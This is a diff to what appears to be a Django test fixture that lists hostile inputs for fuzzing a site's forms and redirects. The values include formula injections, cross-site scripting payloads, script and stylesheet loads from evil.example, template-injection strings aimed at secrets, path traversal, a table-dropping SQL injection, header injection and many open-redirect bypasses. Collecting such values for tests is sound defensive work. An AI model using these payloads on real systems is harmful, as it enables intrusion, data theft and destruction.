@@ -1,79 +1,108 @@
-"""What a hostile or unlucky person types, and where: every form of every page, found by reading the pages."""
+"""What people of ill will type, send and name: each value once, told by what it attacks."""
 
 from __future__ import annotations
 
-from collections.abc import Iterator
-from dataclasses import dataclass, field
-
-from django.test import Client
-from lxml import html
-
-MARK = "mArQue7"
-HOSTILE: dict[str, str] = {
-    "formula": f'=HYPERLINK("http://evil.example","{MARK}")',
-    "formula plus": f"+1+1 {MARK}",
-    "formula at": f"@SUM(A1) {MARK}",
-    "formula tab": f"\t=1 {MARK}",
-    "script": f"<script>alert('{MARK}')</script>",
-    "image": f'"><img src=x onerror=alert(1)>{MARK}',
-    "svg": f"<svg/onload=alert(1)>{MARK}",
-    "template": "{{ request.user.password }}{% debug %}" + MARK,
-    "right to left": f"\u202egnp.exe{MARK}",
-    "zero width": f"a\u200b\u200d\ufeff{MARK}",
-    "nul": f"a\x00b{MARK}",
-    "header": f"a\r\nBcc: evil@evil.example\r\n\r\n{MARK}",
-    "path": f"../../../../etc/passwd%00{MARK}",
-    "quote": f"' OR 1=1 --{MARK}",
-    "surrogate": f"\ud83d\ude00\U0001f9d1\u200d\U0001f680{MARK}".encode("utf-16", "surrogatepass").decode("utf-16"),
-    "long": MARK + "é" * 200_000,
+# A word that only hostile content holds, so that a page which shows it is known.
+MARK = "zqHostile"
+FORMULAS = {
+    f"formule {name}": f"{sign}{MARK}+cmd|' /C calc'!A0"
+    for name, sign in (
+        ("égal", "="),
+        ("plus", "+"),
+        ("moins", "-"),
+        ("arobase", "@"),
+        ("tabulation", "\t="),
+        ("retour", "\r="),
+        ("espace", " ="),
+        ("pleine largeur", "＝"),
+    )
 }
-# Raw in a page, any of these would have been run by a browser.
-RAW = ("<script>alert('", "<img src=x onerror", "<svg/onload")
-SPARED = {"csrfmiddlewaretoken"}
+MARKUP = {
+    "script": f"<script>alert('{MARK}')</script>",
+    "image": f"<img src=x onerror=alert('{MARK}')>",
+    "svg": f"<svg/onload=alert('{MARK}')>",
+    "attribut": f"\" autofocus onfocus=alert('{MARK}') x=\"",
+    "fermeture": f"</textarea></title></script><script src=//evil.example/{MARK}.js></script>",
+    "lien": f"javascript:alert('{MARK}')",
+    "feuille de style": f"</style><style>@import'//evil.example/{MARK}'</style>",
+}
+TEMPLATES = {
+    "gabarit": f"{{{{ request.user.password }}}}{MARK}{{% load static %}}{{% debug %}}",
+    "format": f"%s%n{{0.__class__}}{{settings.SECRET_KEY}}${{7*7}}{MARK}",
+}
+CHARACTERS = {
+    "sens inversé": f"{MARK}\u202egnp.exe\u2066\u2069",
+    "nul": f"{MARK}\x00suite",
+    "largeur nulle": f"{MARK}\u200b\u200d\ufeff\u2060",
+    "seul intrus": "\u200b\u200d",
+    "moitié de paire": f"{MARK}\\ud800\ufffe\uffff",
+    "accents empilés": MARK + "e" + "\u0301" * 300,
+    "chiffres d’ailleurs": "١٢٣٤۵",
+    "exposant": "²",
+    "nombre démesuré": "9" * 400,
+    "infini": "1e999",
+    "pas un nombre": "NaN",
+    "an zéro": "0000-00-00",
+    "an dix mille": "10000-01-01",
+}
+PATHS = {
+    "chemin": f"../../../../etc/passwd{MARK}",
+    "chemin de Windows": f"..\\..\\{MARK}\\CON",
+    "requête": f"' OR 1=1; DROP TABLE people_user; --{MARK}",
+    "motif": f"%_[a-z]*(({MARK}",
+}
+HEADERS = {
+    "en-tête": f"{MARK}\r\nBcc: victim@evil.example\r\nSet-Cookie: a=b",
+    "en-tête codé": f"{MARK}%0d%0aBcc:victim@evil.example",
+    "courriel": f"{MARK}@evil.example\r\nBcc: victim@evil.example",
+}
+LONG = {"très long": f"{MARK} {'é' * 200_000}"}
+HOSTILE: dict[str, str] = {**FORMULAS, **MARKUP, **TEMPLATES, **CHARACTERS, **PATHS, **HEADERS, **LONG}
 
-
-@dataclass(frozen=True)
-class Form:
-    """A form of a page: where it is sent, how, its fields and the values that they had."""
-
-    page: str
-    target: str
-    method: str
-    values: dict[str, str] = field(hash=False)
-    texts: tuple[str, ...]
-
-
-def forms_of(client: Client, address: str) -> Iterator[Form]:
-    """Every form of a page; fields of text apart from those whose values are fixed."""
-    answer = client.get(address)
-    if answer.status_code != 200 or b"<form" not in b"".join(answer):
-        return
-    for found in html.fromstring(answer.content).iter("form"):
-        values, texts = {}, []
-        for one in found.iter("input", "textarea", "select"):
-            name, kind = one.get("name"), one.get("type", "text") if one.tag == "input" else one.tag
-            if not name or name in SPARED or kind in ("submit", "file"):
-                continue
-            if kind in ("checkbox", "radio") and one.get("checked") is None:
-                continue
-            values[name] = str(one.value or "")
-            if kind not in ("hidden", "checkbox", "radio", "select", "password"):
-                texts.append(name)
-        if texts:
-            yield Form(
-                address, found.get("action") or address, (found.get("method") or "get").lower(), values, tuple(texts)
-            )
-
-
-def send(client: Client, form: Form, text: str):
-    """Send the form with this text in each of its fields of text."""
-    values = form.values | dict.fromkeys(form.texts, text)
-    if form.method == "get":
-        return client.get(form.target.partition("?")[0], values)
-    return client.post(form.target, values)
-
-
-def raw_in(content: bytes) -> list[str]:
-    """What a browser would have run."""
-    text = content.decode("utf-8", "ignore")
-    return [one for one in RAW if one in text]
+# Where a careless redirect would lead: another host, whatever the writing.
+ELSEWHERE = (
+    "ailleurs",
+    "portal:home",
+    "https://evil.example",
+    "http://evil.example/",
+    "//evil.example",
+    "///evil.example",
+    "////evil.example",
+    "/\\evil.example",
+    "\\\\evil.example",
+    "\\/evil.example",
+    "/\t/evil.example",
+    "/\n/evil.example",
+    "\t//evil.example",
+    " //evil.example",
+    "https:evil.example",
+    "https:/evil.example",
+    "http:///evil.example",
+    "%2f%2fevil.example",
+    "/%2fevil.example",
+    "%5cevil.example",
+    "javascript:alert(1)",
+    "data:text/html,x",
+    "//evil.example@testserver",
+    "https://testserver@evil.example",
+    "https://testserver.evil.example",
+    "//evil。example",
+    "//ｅvil.example",
+    "/／evil.example",
+    "\u2028//evil.example",
+    "/compte/\r\nLocation: https://evil.example",
+    "\x00//evil.example",
+    "//[evil.example",
+    "http://[::1",
+)
+# The same attacks, gathered: what each form is sent.
+BRIEF = {
+    "formule": FORMULAS["formule égal"],
+    "balises": "".join(MARKUP.values()),
+    "gabarits et chemins": "".join((TEMPLATES | PATHS).values()),
+    "caractères": CHARACTERS["sens inversé"] + CHARACTERS["largeur nulle"] + CHARACTERS["accents empilés"],
+    **{name: CHARACTERS[name] for name in ("nul", "seul intrus", "chiffres d’ailleurs", "exposant")},
+    **{name: CHARACTERS[name] for name in ("nombre démesuré", "infini", "pas un nombre", "an dix mille")},
+    "courriel": HEADERS["courriel"],
+    **LONG,
+}
